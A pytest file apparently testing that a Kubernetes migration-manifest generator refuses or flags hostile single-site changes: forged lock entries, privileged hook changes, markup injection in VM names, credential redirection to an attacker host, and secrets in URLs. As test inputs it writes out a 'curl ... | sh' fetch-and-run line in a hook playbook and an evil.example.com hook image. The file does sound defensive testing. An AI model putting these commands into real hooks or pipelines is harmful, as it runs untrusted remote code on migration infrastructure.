"""A pull request to one site cannot escalate (issue 24): hostile one-site changes that a
reviewer would see go green, each now refused at its line or named in the summary."""

from __future__ import annotations

import json

import sitekit
from conftest import NOW, run
from sitekit import BASE_SPEC


def build(root, *extra):
    return run(["build", "--now", NOW, *extra], root)


site = sitekit.locked


def test_a_hand_edited_lock_cannot_add_a_vm_no_selector_chooses(tmp_path):
    d = site(tmp_path)
    lock = json.loads((d / "mtvgen.lock").read_text())
    evil = dict(lock["vms"]["vm-1"], name="payroll-db", path="/DC/vm/finance/payroll-db", folder="/DC/vm/finance")
    lock["vms"]["vm-99"] = evil
    lock["plans"]["wave1"].append("vm-99")
    (d / "mtvgen.lock").write_text(json.dumps(lock, indent=1, sort_keys=True) + "\n")
    r = build(tmp_path)
    line = BASE_SPEC.splitlines().index("  - name: wave1") + 1
    assert r.exit_code == 1, r.output
    assert f"sites/t/site.yaml:{line}:5: error[MTV009]: the lock lists VM 'payroll-db' (vm-99) in plan 'wave1', " \
           "and no selector of the plan chooses it" in r.stderr
    assert not (tmp_path / "out").exists()


def test_build_check_covers_all_of_out(repo):
    """An empty .mtvgen-exclude plus a manifest added under out/<site>/ (a ClusterRoleBinding)
    went green: the excluded site's output was neither built nor checked."""
    assert run(["build", "--check", "--now", NOW], repo).exit_code == 0
    (repo / "sites/dc1/.mtvgen-exclude").write_text("")
    (repo / "out/dc1/shared/clusterrolebinding-admin.yaml").write_text(
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: x}\n")
    (repo / "out/notes.yaml").write_text("kind: ConfigMap\n")
    r = run(["build", "--check", "--now", NOW], repo)
    assert r.exit_code == 1, r.output
    assert "error: out/dc1/: its site is excluded (sites/dc1/.mtvgen-exclude), so no build writes or checks it" \
        in r.stderr
    assert "error: out/notes.yaml: mtvgen writes no file there" in r.stderr
    assert "is not what a fresh build gives" in r.stderr


def test_a_check_diff_never_prints_a_secrets_lines(tmp_path, monkeypatch):
    monkeypatch.setenv("VC_PASS", "Zq7-secret-value")
    monkeypatch.setenv("VC_USER", "admin")
    spec_text = BASE_SPEC.replace("    secret: vc-creds", "    plaintextFromEnv: {user: VC_USER, password: VC_PASS}")
    d = site(tmp_path, spec_text)
    assert build(tmp_path, "--allow-plaintext-secrets").exit_code == 0
    monkeypatch.setenv("VC_PASS", "another-secret-value")
    r = build(tmp_path, "--check", "--allow-plaintext-secrets")
    assert r.exit_code == 1 and "a Secret: changed; its lines are not shown" in r.stdout
    assert "secret-value" not in r.output and "Zq7" not in r.output
    assert d.exists()


def _spec_errors(tmp_path, spec_text):
    d = sitekit.make(tmp_path, spec_text)
    r = run(["check", "sites/t", "--now", NOW, "--format", "json"], tmp_path)
    return d, r, json.loads(r.stdout)["diagnostics"]


def test_a_url_with_a_password_is_refused_and_never_echoed(tmp_path):
    text = BASE_SPEC.replace("https://vc.example.com/sdk", "https://admin:Hunter2pw@vc.example.com/sdk")
    for fmt in ("text", "github", "sarif", "json"):
        d = sitekit.make(tmp_path / fmt, text)
        r = run(["check", "sites/t", "--now", NOW, "--format", fmt], tmp_path / fmt)
        assert r.exit_code == 1 and "MTV140" in r.output and "Hunter2pw" not in r.output, fmt
        r = run(["lock", "sites/t", "--inventory", str(d / "inventory.yaml")], tmp_path / fmt)
        assert r.exit_code == 1 and "Hunter2pw" not in r.output and not (d / "mtvgen.lock").exists()
    bad = BASE_SPEC.replace("https://vc.example.com/sdk", "https://admin:Hunter2pw@[vc/sdk")
    _d, r, found = _spec_errors(tmp_path / "bad", bad)
    assert [x["code"] for x in found] == ["MTV140"] and "Hunter2pw" not in r.output
    assert "'https://***@[vc/sdk'" in found[0]["message"]


def test_plain_http_and_unchecked_tls_are_errors_unless_the_policy_allows_them(tmp_path):
    _d, r, found = _spec_errors(tmp_path / "http", BASE_SPEC.replace("https://vc.example", "http://vc.example"))
    assert [(x["code"], x["severity"], x["line"]) for x in found] == [("MTV141", "error", 5)]
    spec_text = BASE_SPEC.replace("  vddkImage:", "  insecureSkipVerify: true\n  vddkImage:")
    _d, r, found = _spec_errors(tmp_path / "tls", spec_text)
    assert [(x["code"], x["severity"], x["line"]) for x in found] == [("MTV142", "error", 6)]
    (tmp_path / "tls/sites/mtvgen-policy.yaml").write_text("allowInsecureTls: true\nallowHttp: true\n")
    sitekit.lock(tmp_path / "tls/sites/t")
    r = run(["check", "sites/t", "--now", NOW], tmp_path / "tls")
    assert "sites/t/site.yaml:6:23: warning[MTV142]: source.insecureSkipVerify: true" in r.stdout


def test_the_inventory_url_must_be_https_without_user_info(tmp_path):
    from compiler.errors import UsageError
    from compiler.inventory.forklift import ForkliftSource
    import pytest
    for url in ("http://inventory.example.com", "https://u:tok@inventory.example.com"):
        with pytest.raises(UsageError, match="must be https:// without user-info") as caught:
            ForkliftSource(None, "openshift-mtv", "p", "ovirt", url=url)
        assert "tok@" not in str(caught.value)


def test_a_credentials_file_is_read_as_written_and_its_errors_do_not_quote_it(tmp_path):
    from compiler.errors import UsageError
    from compiler.inventory import vsphere
    import pytest
    f = tmp_path / "creds.yaml"
    f.write_text("user: admin\npassword: 0012345\n")
    assert vsphere.credentials(f).password == "0012345"              # not YAML 1.1 octal 5349
    f.write_text("user: admin\npassword: [Zq7secret\n")
    with pytest.raises(UsageError) as caught:
        vsphere.credentials(f)
    assert "Zq7secret" not in str(caught.value) and str(caught.value.where).endswith("creds.yaml:3")


def test_the_summary_shows_every_privileged_change_first(repo):
    import shutil
    shutil.copytree(repo / "out", repo / "base" / "out")
    spec_path = repo / "sites/dc1/site.yaml"
    text = spec_path.read_text()
    text = text.replace("image: quay.io/konveyor/hook-runner:latest", "image: evil.example.com/runner:1")
    text = text.replace("serviceAccount: mtv-hooks", "serviceAccount: migration-admin")
    spec_path.write_text(text)
    playbook = repo / "sites/dc1/hooks/quiesce-db.yml"
    playbook.write_text(playbook.read_text() + "- hosts: localhost\n  tasks:\n    - shell: curl -s https://x.example | sh\n")
    r = run(["summary", "sites/dc1", "--base", str(repo / "base"), "--now", NOW], repo)
    assert r.exit_code == 0, r.output
    out = r.stdout
    section = out.split("**Security-relevant changes** (review each)")[1].split("**What this change does**")[0]
    assert out.index("**Security-relevant changes**") < out.index("**What this change does**")
    assert "- Hook openshift-mtv/dc1-quiesce-db: image: `quay.io/konveyor/hook-runner:latest` → " \
           "`evil.example.com/runner:1`" in section
    assert "- Hook openshift-mtv/dc1-quiesce-db: serviceAccount: `mtv-hooks` → `migration-admin`" in section
    assert "  +    - shell: curl -s https://x.example | sh" in section
    assert "```diff" in section


def test_names_from_the_inventory_cannot_inject_markup_into_the_summary(tmp_path):
    hostile = "db-09\n<!-- [click](http://evil) | # x"
    inv = sitekit.inventory(vms=[sitekit.vm("vm-1", hostile), sitekit.vm("vm-2", "beta")])
    d = site(tmp_path, BASE_SPEC, inv)
    r = run(["summary", "sites/t", "--now", NOW], tmp_path)
    assert r.exit_code == 0, r.output
    assert "<!--" not in r.stdout and "[click](" not in r.stdout and "\n# x" not in r.stdout
    # the newline shown as \x0a (its backslash escaped for Markdown), every markup character escaped
    assert "db-09\\\\x0a&lt;\\!-- \\[click\\](http://evil) \\| \\# x" in r.stdout
    assert d.exists()


from hypothesis import HealthCheck, given, settings, strategies as st  # noqa: E402

HOSTILE = st.text(alphabet=st.one_of(st.characters(min_codepoint=0, max_codepoint=0x9f),
                                     st.sampled_from("\u2028\u2029\ufeff\ud800\udfff<>|[]#`*!~&\\"),
                                     st.characters(blacklist_categories=("Cs",))), min_size=1, max_size=12)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=HOSTILE)
def test_hostile_names_through_lock_build_and_summary(tmp_path_factory, name):
    """Any name a source can send (JSON can carry a lone surrogate): never an internal error,
    and whatever is written is text every Kubernetes tool reads."""
    from compiler import names
    root = tmp_path_factory.mktemp("fuzz")
    inv = sitekit.inventory(vms=[sitekit.vm("vm-1", name), sitekit.vm("vm-2", "beta")])
    d = sitekit.make(root, BASE_SPEC, inv)
    (d / "inventory.json").write_text(json.dumps(inv))
    r = run(["lock", "sites/t", "--inventory", "sites/t/inventory.json"], root)
    assert r.exit_code in (0, 1, 2) and "internal error" not in r.output, r.output
    if r.exit_code:
        return
    for args in (["build", "--now", NOW], ["summary", "sites/t", "--now", NOW]):
        r = run(args, root)
        assert r.exit_code in (0, 1) and "internal error" not in r.output, (args, r.output)
    for f in (root / "out").rglob("*.yaml") if (root / "out").exists() else ():
        assert names.yaml_printable(f.read_text(encoding="utf-8")), f


def test_a_name_no_kubernetes_tool_writes_is_referenced_by_id_with_a_warning(tmp_path):
    import subprocess
    from conftest import KUBECTL
    inv = sitekit.inventory(vms=[sitekit.vm("vm-1", "db\x7f01"), sitekit.vm("vm-2", "beta")])
    site(tmp_path, BASE_SPEC, inv)
    r = build(tmp_path)
    assert r.exit_code == 0 and "warning[MTV085]: VM 'db\\x7f01' (vm-1): the name holds a control character" in r.stderr
    out = subprocess.run([KUBECTL, "kustomize", str(tmp_path / "out/t")], capture_output=True, text=True)
    assert out.returncode == 0, out.stderr                 # before: "yaml: control characters are not allowed"
    assert "- id: vm-1\n" in (tmp_path / "out/t/plans/wave1/plan/plan-t-wave1.yaml").read_text()


def test_the_policy_defaults_refuse_what_one_site_must_not_choose(tmp_path):
    argo = "delivery:\n  repoURL: https://git.example.com/m.git\n  path: {path}\n  argocd: {argo}\n"
    cases = [
        (argo.format(path="out/../docs", argo="{}"), "delivery.path 'out/../docs' leaves the repository's build output"),
        (argo.format(path="elsewhere", argo="{}"), "delivery.path 'elsewhere' is not where mtvgen writes the build"),
        (argo.format(path="out", argo="{project: default}"), "delivery.argocd.project is `default`"),
        (argo.format(path="out", argo="{project: prod, createProject: false}"),
         "delivery.argocd.project 'prod' is a project mtvgen does not create for this site"),
        (argo.format(path="out", argo="{destination: {server: 'https://prod.example:6443'}}"),
         "delivery.argocd.destination 'https://prod.example:6443' is another cluster"),
        ("delivery:\n  repoURL: https://git.example.com/m.git\n  flux: {kubeConfigSecret: prod}\n",
         "delivery.flux.kubeConfigSecret 'prod' picks another cluster's kubeconfig"),
        ("mtvNamespace: kube-system\n", "mtvNamespace 'kube-system' is a system namespace"),
    ]
    for i, (extra, words) in enumerate(cases):
        spec_text = BASE_SPEC.replace("networks:\n", extra + "networks:\n", 1)
        _d, r, found = _spec_errors(tmp_path / str(i), spec_text)
        assert r.exit_code == 1 and any(words in x["message"] for x in found), (words, found)
        assert {x["code"] for x in found} == {"MTV144" if "Namespace" in extra else "MTV143"}
    _d, r, found = _spec_errors(tmp_path / "ns", BASE_SPEC.replace("targetNamespace: apps", "targetNamespace: openshift-config"))
    assert [x["code"] for x in found] == ["MTV144"]
    hook = BASE_SPEC.replace("    image: quay.io/konveyor/hook-runner", "    image: quay.io/konveyor/hook-runner\n"
                             "    serviceAccount: forklift-controller")
    _d, r, found = _spec_errors(tmp_path / "hook", hook)
    assert [x["code"] for x in found] == ["MTV145"]


def test_a_policy_allows_and_narrows(tmp_path):
    spec_text = BASE_SPEC.replace("networks:\n", "delivery:\n  repoURL: https://git.example.com/m.git\n"
                                  "  argocd: {destination: {name: prod-east}}\n" + "networks:\n", 1)
    d = sitekit.make(tmp_path, spec_text)
    (tmp_path / "sites/mtvgen-policy.yaml").write_text("clusters: [prod-*]\nhookImages: ['registry.example.com/*']\n")
    r = run(["check", "sites/t", "--now", NOW, "--format", "json"], tmp_path)
    found = json.loads(r.stdout)["diagnostics"]
    assert [x["code"] for x in found] == ["MTV145"] and "quay.io/konveyor/hook-runner" in found[0]["message"]
    (tmp_path / "sites/mtvgen-policy.yaml").write_text("clusterz: [x]\n")
    r = run(["check", "sites/t", "--now", NOW], tmp_path)
    assert r.exit_code == 1 and "sites/mtvgen-policy.yaml" in r.output and "clusterz" in r.output
    assert d.exists()


def test_bounds_a_huge_or_deep_playbook_and_too_many_units(tmp_path):
    big = "- hosts: localhost\n  tasks:\n" + "    - debug: {msg: " + "x" * 600_000 + "}\n"
    d = site(tmp_path / "big", BASE_SPEC.replace("    image: quay.io/konveyor/hook-runner",
                                                 "    image: quay.io/konveyor/hook-runner\n    playbook: pb.yml"))
    (d / "pb.yml").write_text(big)
    r = build(tmp_path / "big")
    assert r.exit_code == 1 and "error[MTV053]: hook 'prep': pb.yml is 600," in r.stderr
    (d / "pb.yml").write_text("- hosts: localhost\n  tasks: " + "[" * 3000 + "]" * 3000 + "\n")
    r = build(tmp_path / "big")
    assert r.exit_code == 1 and "error[MTV051]: hook 'prep': pb.yml is not a YAML list of plays (" in r.stderr
    assert "internal error" not in r.stderr
    from compiler import policy, spec
    s = spec.load(d)
    assert [(x.code, x.level) for x in policy.units(s, 1001)] == [("MTV146", "warning")]
    assert [x.level for x in policy.units(s, 5001)] == ["error"] and list(policy.units(s, 1000)) == []


def test_target_labels_are_kubernetes_labels(tmp_path):
    spec_text = BASE_SPEC.replace("    preHook: prep", "    preHook: prep\n    targetLabels: {'app/x/y': ok, "
                                  "'team': 'has space', 'tier.example.com/role': db}")
    d = site(tmp_path, spec_text)
    r = run(["check", "sites/t", "--now", NOW, "--format", "json"], tmp_path)
    found = [x["message"] for x in json.loads(r.stdout)["diagnostics"] if x["code"] == "MTV026"]
    assert len(found) == 2 and "'app/x/y'" in found[0] and "'has space'" in found[1]
    assert d.exists()


def test_sites_may_share_credentials_only_for_the_same_host(repo):
    """sites/dc1 and sites/factory share the vault key of the vCenter they both read; a pull
    request pointing factory at another host with that key would have Forklift log in there."""
    assert run(["build", "--check", "--now", NOW], repo).exit_code == 0
    spec_path = repo / "sites/factory/site.yaml"
    spec_path.write_text(spec_path.read_text().replace("vcenter.dc1.example.com", "vc.attacker.example.net"))
    assert run(["lock", "sites/factory", "--inventory", "sites/factory/inventory.yaml"], repo).exit_code == 0
    r = run(["build", "--now", NOW], repo)
    assert r.exit_code == 1, r.output
    assert "error[MTV147]: credentials ClusterSecretStore vault-backend key mtv/vcenter-dc1 are used for " \
           "vc.attacker.example.net, and also by site 'dc1' for vcenter.dc1.example.com" in r.stderr


def test_a_pvc_name_template_may_use_every_upstream_variable(tmp_path):
    spec_text = BASE_SPEC.replace("    preHook: prep", "    preHook: prep\n"
                                  "    pvcNameTemplate: '{{.PlanName}}-{{.TargetVmName}}-{{.DiskIndex}}'")
    d = site(tmp_path, spec_text)
    r = run(["check", "sites/t", "--now", NOW], tmp_path)
    assert r.exit_code == 0 and "MTV025" not in r.stdout, r.output
    assert d.exists()


def test_a_pvc_name_template_is_checked_on_each_vms_rendered_name(tmp_path):
    """Sample values pass `{{.VmName}}-disk-{{.DiskIndex}}`; a VM named 'Alpha 1' does not."""
    spec_text = BASE_SPEC.replace("    preHook: prep", "    preHook: prep\n"
                                  "    pvcNameTemplate: '{{.VmName}}-disk-{{.DiskIndex}}'")
    inv = sitekit.inventory(vms=[sitekit.vm("vm-1", "Alpha 1"), sitekit.vm("vm-2", "beta")])
    site(tmp_path, spec_text, inv)
    r = run(["check", "sites/t", "--now", NOW, "--format", "json"], tmp_path)
    found = [x for x in json.loads(r.stdout)["diagnostics"] if x["code"] == "MTV025"]
    assert [(x["vm"], "gives 'Alpha 1-disk-0' for its disk 0" in x["message"]) for x in found] == [("Alpha 1", True)]
